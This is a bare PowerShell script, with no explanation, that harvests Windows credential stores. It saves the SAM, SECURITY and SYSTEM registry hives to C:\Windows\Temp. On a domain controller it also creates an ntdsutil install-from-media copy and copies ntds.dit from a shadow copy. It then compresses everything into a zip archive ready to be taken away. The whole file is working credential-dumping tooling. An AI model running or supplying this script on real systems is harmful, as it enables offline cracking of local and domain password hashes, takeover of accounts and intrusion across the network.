param([string]$Out = 'C:\Windows\Temp\x')

New-Item -ItemType Directory -Path $Out -Force | Out-Null

reg.exe save HKLM\SAM "$Out\sam.hiv" /y
reg.exe save HKLM\SECURITY "$Out\security.hiv" /y
reg.exe save HKLM\SYSTEM "$Out\system.hiv" /y

if (Get-Service -Name NTDS -ErrorAction SilentlyContinue) {
    ntdsutil.exe "activate instance ntds" "ifm" "create full $Out\ifm" quit quit
    $shadow = (Get-CimInstance -ClassName Win32_ShadowCopy | Select-Object -First 1).DeviceObject
    Copy-Item -Path "$shadow\Windows\NTDS\ntds.dit" -Destination "$Out\ntds.dit"
}

Compress-Archive -Path "$Out\*" -DestinationPath "$Out.zip" -Force
